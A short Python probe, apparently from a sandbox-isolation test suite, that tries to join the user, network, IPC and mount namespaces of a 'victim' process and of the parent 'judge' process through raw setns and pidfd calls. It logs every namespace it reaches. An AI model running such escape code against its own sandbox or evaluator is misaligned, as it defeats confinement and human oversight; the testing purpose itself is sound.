"""joins the namespaces of the victim and of the judge"""

import os


def attack():
    for pid in (TARGETS["victim"], os.getppid()):
        for flag in (0x10000000, 0x40000000, 0x8000000, 0x20000):
            try:
                syscall(308, os.pidfd_open(pid), flag)
            except OSError:
                continue
            reached(f"joined namespace {flag:#x} of {pid}")
